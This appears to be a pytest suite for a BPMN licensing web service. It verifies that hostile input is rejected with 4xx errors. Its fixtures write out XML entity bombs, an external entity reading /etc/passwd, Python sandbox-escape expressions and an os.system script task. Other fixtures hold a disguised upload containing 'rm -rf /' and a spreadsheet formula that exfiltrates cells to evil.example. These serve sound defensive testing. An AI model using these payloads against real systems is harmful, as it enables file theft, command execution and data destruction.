"""Hostile input: BPMN bombs and escapes, lying files, oversize and malformed bodies — clear 4xx, nothing kept."""

from __future__ import annotations

import csv
import io
import json
import re

import pytest
from sqlalchemy.exc import DataError, IntegrityError, OperationalError
from werkzeug.datastructures import MultiDict

import forms
from engine.bpmn import sandbox
from tests.conftest import bpmn_fixture
from tests.web.conftest import make_app
from tests.web.portal import Api, drive_to_licence, issue_body, pay_fee
from web.exports import neutralised
from web.ui.forms_render import parse
from web.ui.paging import page_number

GOOD = bpmn_fixture("example_review").decode()


def deploy(api, data: bytes | str):
    body = data.encode() if isinstance(data, str) else data
    return api.client.post("/api/v1/processes", data=body, headers={**api.headers("analyst"),
                                                                    "Content-Type": "application/xml"})


def deployed_keys(api) -> set[str]:
    return {v["key"] for v in api.get("/api/v1/processes", user="analyst").get_json()}


@pytest.mark.parametrize("xml", [
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">'
    '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]><bpmn:definitions '
    'xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL">&c;</bpmn:definitions>',
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
    '<bpmn:definitions xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL">&e;</bpmn:definitions>',
    "<not-closed",
])
def test_entity_bombs_external_entities_and_garbage_are_refused(api, xml):
    before = deployed_keys(api)
    r = deploy(api, xml)
    assert r.status_code == 422 and r.get_json()["errors"][0]["message"]
    assert deployed_keys(api) == before


def test_a_huge_file_is_refused_without_reading_it_all(api):
    r = deploy(api, GOOD.replace("</bpmn:definitions>", "<!--" + "x" * (3 * 1024 * 1024) + "--></bpmn:definitions>"))
    assert r.status_code == 422 and "larger" in r.get_json()["errors"][0]["message"]


@pytest.mark.parametrize(("find", "replace"), [
    ("completeness_check['decision'] == 'complete'", "__import__('os').system('id') == 0"),
    ("completeness_check['decision'] == 'complete'", "open('/etc/passwd').read() == ''"),
    ("add_working_days(registered_at, 2)", "().__class__.__mro__[1].__subclasses__()"),
    ("value=\"'review'\"", "value=\"__import__('subprocess')\""),
])
def test_expressions_that_reach_for_modules_or_files_are_refused_at_validation(api, find, replace):
    assert find in GOOD
    r = deploy(api, GOOD.replace(find, replace))
    assert r.status_code == 422
    assert "example_review" not in deployed_keys(api)


def test_a_script_task_that_imports_is_refused():
    from engine.bootstrap import default_registry
    from engine.bpmn.serializer import StateSerializer
    from engine.errors import DefinitionInvalid
    from engine.runtime.definitions import DefinitionStore

    script = ('<bpmn:scriptTask id="evil" name="Evil"><bpmn:extensionElements><spiffworkflow:properties>'
              '<spiffworkflow:property name="clause" value="R7" /></spiffworkflow:properties></bpmn:extensionElements>'
              '<bpmn:incoming>f2</bpmn:incoming><bpmn:outgoing>f2b</bpmn:outgoing>'
              '<bpmn:script>import os\nos.system("id")</bpmn:script></bpmn:scriptTask>'
              '<bpmn:sequenceFlow id="f2b" sourceRef="evil" targetRef="review" />')
    text = GOOD.replace('<bpmn:sequenceFlow id="f2" sourceRef="precheck" targetRef="review" />',
                        '<bpmn:sequenceFlow id="f2" sourceRef="precheck" targetRef="evil" />' + script)
    store = DefinitionStore(StateSerializer(), form_exists=lambda k: True, operations=default_registry())
    with pytest.raises(DefinitionInvalid) as err:
        store.validate(text.encode(), "evil.bpmn")
    assert any(p.element == "evil" and "not allowed" in p.message for p in err.value.problems)


def test_even_at_runtime_the_sandbox_cannot_import_or_open_files():
    for source in ("__import__('os')", "open('/etc/passwd')", "globals()['__builtins__']"):
        with pytest.raises((sandbox.UnsafeExpression, NameError)):
            sandbox.evaluate(source, {})


def upload(api, content: bytes, name: str, mimetype: str):
    return api.client.post("/api/v1/files", data={"file": (io.BytesIO(content), name, mimetype)},
                           headers=api.headers("portal"), content_type="multipart/form-data")


def test_files_are_typed_by_their_content_not_by_what_they_claim(api):
    lying = upload(api, b"#!/bin/sh\nrm -rf /\n", "licence.pdf", "application/pdf")
    assert lying.status_code == 422 and lying.get_json()["errors"][0]["field"] == "file"
    png = b"\x89PNG\r\n\x1a\n" + b"\x00" * 64
    r = upload(api, png, "scan.pdf", "application/pdf")
    assert r.status_code == 201 and r.get_json()["media_type"] == "image/png"
    assert r.get_json()["declared_type_matches"] is False
    assert upload(api, b"", "empty.pdf", "application/pdf").status_code == 422
    big = b"%PDF-1.4\n" + b"0" * (10 * 1024 * 1024 + 1)
    assert upload(api, big, "big.pdf", "application/pdf").status_code == 422


def test_an_oversize_body_gets_413_with_the_json_error_shape(api):
    r = api.client.post("/api/v1/applications", data=b"{" + b" " * (13 * 1024 * 1024) + b"}",
                        headers={**api.headers("portal"), "Content-Type": "application/json", "Idempotency-Key": "k"})
    assert r.status_code == 413 and r.get_json()["errors"]


@pytest.mark.parametrize(("method", "path", "user"), [
    ("post", "/api/v1/applications", "portal"), ("post", "/api/v1/auth/token", None),
    ("put", "/api/v1/admin/clock", "admin"), ("post", "/api/v1/complaints", "portal"),
    ("put", "/api/v1/admin/gateway/payments/210340000003", "admin"),
    ("post", "/api/v1/licences/X/pool-notices", "portal"), ("post", "/api/v1/tasks/x/complete", "officer"),
])
@pytest.mark.parametrize("body", [b"{not json", b"[1, 2]", b'"text"', b"null"])
def test_malformed_or_mistyped_json_gets_a_4xx_with_errors(api, method, path, user, body):
    headers = {"Content-Type": "application/json", "Idempotency-Key": "k"}
    if user:
        headers.update(api.headers(user))
    r = getattr(api.client, method)(path, data=body, headers=headers)
    assert 400 <= r.status_code < 500, (path, body, r.status_code)
    assert r.get_json()["errors"]


# -- one input layer for every JSON body: encoding, depth, text, limits, moments -----------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"open")'


@pytest.fixture(scope="module")
def shared(tmp_path_factory, keys_dir):
    application = make_app(f"sqlite:///{tmp_path_factory.mktemp('hostile') / 'app.db'}", keys_dir)
    yield application
    application.extensions["licensing"].wiring.db.dispose()


@pytest.fixture(scope="module")
def sapi(shared):
    return Api(shared.test_client())


@pytest.fixture(scope="module")
def licence(sapi):
    """A licence whose holder is named like a spreadsheet formula; the clock stands at 2025-06-05 10:00."""
    sapi.set_clock("2025-06-05T10:00:00+05:00")
    body = issue_body(sapi, "I", name=FORMULA)
    pay_fee(sapi, body, "2025-06-02T12:00:00+05:00")
    r = sapi.submit(body)
    assert r.status_code == 201, r.get_json()
    return drive_to_licence(sapi, r.get_json()["id"])["licence_number"]


def send(api, method, path, raw: bytes, user="portal", content_type="application/json"):
    headers = {**api.headers(user), "Content-Type": content_type, "Idempotency-Key": "k-hostile"}
    return getattr(api.client, method)(path, data=raw, headers=headers)


def fields_of(r) -> set[str]:
    return {e["field"] for e in r.get_json()["errors"]}


@pytest.mark.parametrize("raw", [
    "[" * 10_000 + "]" * 10_000,
    '{"addressed_to": "provider", "application_id": "x", "text": ' + "{\"a\": " * 10_000 + "1" + "}" * 10_001,
])
def test_json_nested_ten_thousand_deep_gets_422(sapi, raw):
    r = send(sapi, "post", "/api/v1/complaints", raw.encode())
    assert r.status_code == 422
    assert "nested deeper than 32 levels" in r.get_json()["errors"][0]["message"]


def test_json_nested_deeper_than_the_limit_names_where(sapi):
    raw = '{"addressed_to": "provider", "application_id": "x", "text": ' + "[" * 40 + "]" * 40 + "}"
    r = send(sapi, "post", "/api/v1/complaints", raw.encode())
    assert r.status_code == 422
    assert r.get_json()["errors"] == [{"field": "text" + ".0" * 31, "message": "nested deeper than 32 levels"}]


@pytest.mark.parametrize(("path", "raw", "field", "words"), [
    ("/api/v1/complaints", rb'{"addressed_to": "provider", "application_id": "x", "text": "a\u0000b"}', "text",
     "NUL character"),
    ("/api/v1/complaints", rb'{"addressed_to": "provider", "application_id": "x", "text": "\ud800"}', "text",
     "lone surrogate"),
    ("/api/v1/complaints", rb'{"addressed_to": "provider", "text": "ok", "x\u0000": 1}', "x\x00",
     "field name must not contain a NUL"),
    ("/api/v1/applications", rb'{"procedure": "issue", "applicant": {"name": "\udfff\u00e9"}}', "applicant.name",
     "lone surrogate"),
    ("/api/v1/applications", rb'{"procedure": "issue", "data_centers": [{"address": "\u0000"}]}',
     "data_centers.0.address", "NUL character"),
])
def test_nul_characters_and_lone_surrogates_get_422_naming_the_field(sapi, path, raw, field, words):
    r = send(sapi, "post", path, raw)
    assert r.status_code == 422
    errors = r.get_json()["errors"]
    assert [e["field"] for e in errors] == [field]
    assert words in errors[0]["message"]


def test_on_postgresql_nul_and_surrogates_get_422_not_503(pg_app):
    api = Api(pg_app.test_client())
    r = send(api, "post", "/api/v1/applications",
             rb'{"procedure": "issue", "subtype": "I", "applicant": {"name": "A\u0000B"}}')
    assert r.status_code == 422 and fields_of(r) == {"applicant.name"}
    r = send(api, "put", "/api/v1/admin/gateway/business_registry/210340000003",
             rb'{"registered": true, "name": "\ud800", "kind": "legal_entity"}', user="admin")
    assert r.status_code == 422 and fields_of(r) == {"name"}
    r = send(api, "post", "/api/v1/complaints", rb'{"addressed_to": "provider", "licence_number": "a\u0000"}')
    assert r.status_code == 422 and "licence_number" in fields_of(r)
    assert api.get("/healthz").status_code == 200


def test_database_errors_become_4xx_and_only_an_unreachable_database_503(app):
    def refuse_value():
        raise DataError("INSERT ...", {}, Exception("value too long for type character varying(300)"))

    def clash():
        raise IntegrityError("INSERT ...", {}, Exception("duplicate key value violates unique constraint"))

    def gone():
        raise OperationalError("SELECT 1", {}, Exception("could not connect to server: Connection refused"))

    for name, view in (("refuse", refuse_value), ("clash", clash), ("gone", gone)):
        app.add_url_rule(f"/api/v1/test-db-{name}", f"test_db_{name}", view)
    client = app.test_client()
    refused, clashed, unreachable = (client.get(f"/api/v1/test-db-{n}") for n in ("refuse", "clash", "gone"))
    assert refused.status_code == 422 and clashed.status_code == 409 and unreachable.status_code == 503
    assert unreachable.headers["Retry-After"] == "5"
    for r in (refused, clashed, unreachable):
        assert r.get_json()["errors"][0]["message"]
        assert b"varying" not in r.data and b"unique constraint" not in r.data and b"INSERT" not in r.data


UTF8_CLOCK = json.dumps({"now": "2025-06-05T10:00:00+05:00"})


@pytest.mark.parametrize(("raw", "content_type"), [
    (UTF8_CLOCK.encode("utf-16"), "application/json"),
    (UTF8_CLOCK.encode("utf-16-le"), "application/json"),
    (UTF8_CLOCK.encode("utf-32"), "application/json"),
    (b"\xef\xbb\xbf" + UTF8_CLOCK.encode(), "application/json"),
    (UTF8_CLOCK.encode(), "application/json; charset=utf-16"),
    (b'{"now": "2025-06-05T10:00:00+05:00 \xe9t\xe9"}', "application/json"),
])
def test_bodies_that_are_not_utf8_json_get_415(sapi, raw, content_type):
    r = send(sapi, "put", "/api/v1/admin/clock", raw, user="admin", content_type=content_type)
    assert r.status_code == 415
    assert "UTF-8" in r.get_json()["errors"][0]["message"]


def test_a_body_sent_as_something_other_than_json_gets_415(sapi):
    r = send(sapi, "put", "/api/v1/admin/clock", UTF8_CLOCK.encode(), user="admin", content_type="text/plain")
    assert r.status_code == 415 and "application/json" in r.get_json()["errors"][0]["message"]


@pytest.mark.parametrize("raw", [b'{"now": NaN}', b'{"now": "2025-06-05T10:00:00+05:00", "now": "x"}',
                                 b'{"now": 1' + b"0" * 5000 + b"}", b'{"now": 1e999}'])
def test_non_standard_json_gets_422(sapi, raw):
    r = send(sapi, "put", "/api/v1/admin/clock", raw, user="admin")
    assert r.status_code == 422 and r.get_json()["errors"][0]["message"]


@pytest.mark.parametrize("query", [
    "started_after=0001-01-01T00:00:00%2B14:00", "started_before=9999-12-31T23:59:59-14:00",
    "ended_after=1999-12-31T10:00:00%2B05:00", "ended_before=2025-06-05",
])
def test_query_moments_beyond_the_years_handled_or_without_offset_get_422(sapi, query):
    r = sapi.get(f"/api/v1/instances?{query}", user="auditor")
    assert r.status_code == 422
    error = r.get_json()["errors"][0]
    assert error["field"] == query.split("=")[0]
    assert "between the years 2000 and 2100" in error["message"]


def test_body_moments_beyond_the_years_handled_get_422_and_change_nothing(sapi):
    before = sapi.get("/api/v1/admin/clock").get_json()
    r = sapi.put("/api/v1/admin/clock", {"now": "0001-01-01T00:00:00+14:00"})
    assert r.status_code == 422 and fields_of(r) == {"now"}
    r = sapi.put("/api/v1/admin/gateway/payments/210340000003", {"payments": [
        {"purpose": "licence_fee", "amount_kzt": 100, "paid_at": "0001-01-01T00:00:00+14:00", "reference": "P"}]})
    assert r.status_code == 422 and fields_of(r) == {"payments.0.paid_at"}
    r = sapi.post("/api/v1/licences/NOPE/pool-notices", {"changed_at": "9999-12-31T23:59:59-14:00",
                                                         "pool": {"name": "P"}})
    assert r.status_code == 422 and fields_of(r) == {"changed_at"}
    assert sapi.get("/api/v1/admin/clock").get_json() == before


@pytest.mark.parametrize("body", [
    {"now": "garbage"}, {"now": 5}, {"now": None}, {"now": "2025-07-01T10:00:00"}, {"now": "2025-13-01T10:00:00+05:00"},
    {}, {"now": "2025-07-01T10:00:00+05:00", "then": "2025-07-02T10:00:00+05:00"}, {"now": "x" * 100_000},
])
def test_setting_the_clock_to_garbage_gets_422_and_leaves_it(sapi, body):
    before = sapi.get("/api/v1/admin/clock").get_json()
    r = sapi.put("/api/v1/admin/clock", body)
    assert r.status_code == 422 and r.get_json()["errors"][0]["field"] in ("now", "then")
    assert sapi.get("/api/v1/admin/clock").get_json() == before


@pytest.mark.parametrize(("body", "field"), [
    ({"months": 0}, "months"), ({"months": 7}, "months"), ({"months": 10**7}, "months"), ({"months": "3"}, "months"),
    ({"months": 2.5}, "months"), ({"months": 10**30}, "months"),
    ({"period_working_days": 10**7}, "period_working_days"),
    ({"months": 3, "scope": "annex"}, "annex_number"), ({"months": 3, "scope": "everything"}, "scope"),
    ({"months": 3, "grounds": "x" * 20_001}, "grounds"), ({"months": 3, "unknown": 1}, "unknown"),
])
def test_suspensions_outside_one_to_six_months_or_malformed_get_422(sapi, body, field):
    r = sapi.post("/api/v1/licences/NOPE/suspensions", body, user="officer")
    assert r.status_code == 422 and field in fields_of(r), r.get_json()


def test_huge_offsets_in_the_api_get_422(sapi):
    assert sapi.get(f"/api/v1/tasks?offset={10**20}", user="officer").status_code == 422
    assert sapi.get(f"/api/v1/instances?limit={10**20}", user="auditor").status_code == 422
    assert sapi.get("/api/v1/monitoring/events?after=" + "9" * 5000, user="auditor").status_code == 422


def login(app, user: str):
    client = app.test_client()
    page = client.get("/login").data.decode()
    r = client.post("/login", data={"username": user, "password": user, "csrf_token": csrf_of(page)})
    assert r.status_code == 302
    return client


def csrf_of(html: str) -> str:
    return re.search(r'name="csrf_token" value="([^"]+)"', html).group(1)


@pytest.mark.parametrize("page", [str(10**20), "9" * 5000, "-3", "²", "abc", "0"])
def test_huge_or_odd_page_numbers_in_the_workspaces_give_a_page_not_an_error(shared, page):
    officer = login(shared, "officer")
    assert officer.get(f"/tasks?page={page}").status_code == 200
    auditor = login(shared, "auditor")
    assert auditor.get(f"/audit?page={page}").status_code == 200


def test_page_numbers_are_clamped_to_the_pages_that_exist_in_range():
    assert [page_number(raw) for raw in (None, "", "1", "7", "0", "-1", "²", str(10**20), "10000", "10001")] == \
        [1, 1, 1, 7, 1, 1, 1, 10_000, 10_000, 10_000]


@pytest.mark.parametrize("base", ["abc", "1e3", str(10**20), "-1"])
def test_an_analyst_draft_with_a_base_that_is_not_a_version_gets_400(shared, base):
    analyst = login(shared, "analyst")
    token = csrf_of(analyst.get("/processes").data.decode())
    r = analyst.post(f"/processes/licence_issue/draft?base={base}", json={"xml": "<x/>"},
                     headers={"X-CSRFToken": token})
    assert r.status_code == 400


def test_a_pool_object_of_11_mb_or_100_kb_is_refused_and_nothing_is_stored(sapi, licence):
    path = f"/api/v1/licences/{licence}/pool-notices"
    changed = "2025-06-05T09:00:00+05:00"
    huge = sapi.post(path, {"changed_at": changed, "pool": {"name": "P", "url": "u" * (11 * 1024 * 1024)}})
    assert huge.status_code == 413 and "16 KB" in huge.get_json()["errors"][0]["message"]
    big = sapi.post(path, {"changed_at": changed, "pool": {"name": "n" * (100 * 1024)}})
    assert big.status_code == 413
    long_name = sapi.post(path, {"changed_at": changed, "pool": {"name": "n" * 301}})
    assert long_name.status_code == 422 and fields_of(long_name) == {"pool.name"}
    unknown = sapi.post(path, {"changed_at": changed, "pool": {"name": "P", "blob": "b"}})
    assert unknown.status_code == 422 and fields_of(unknown) == {"pool.blob"}
    stored = sapi.get(f"/api/v1/licences/{licence}", user="auditor").get_json()
    assert stored["pool_notices"] == []


def test_csv_exports_neutralise_an_applicant_named_like_a_formula(sapi, licence):
    r = sapi.get("/api/v1/instances/export?format=csv&process=licence_issue", user="auditor")
    assert r.status_code == 200 and r.mimetype == "text/csv"
    rows = list(csv.reader(io.StringIO(r.data.decode())))
    applicant = rows[0].index("applicant")
    assert [row[applicant] for row in rows[1:]] == ["'" + FORMULA]
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)


def test_formula_like_cells_get_an_apostrophe_and_others_stay():
    text = 'a,b,c\r\n=1+2,+7,-5\r\n@SUM(A1),"\tx","\ry"\r\nplain,,"say ""hi"", ok"\r\n'
    assert list(csv.reader(io.StringIO(neutralised(text)))) == [
        ["a", "b", "c"], ["'=1+2", "'+7", "'-5"], ["'@SUM(A1)", "'\tx", "'\ry"], ["plain", "", 'say "hi", ok']]


def test_the_workspace_form_parser_drops_nul_characters(shared):
    with shared.test_request_context("/tasks"):
        data = parse(forms.load("completeness_check"), MultiDict({"decision": "incomplete", "reason": "no\x00 file"}))
    assert data == {"decision": "incomplete", "reason": "no file"}
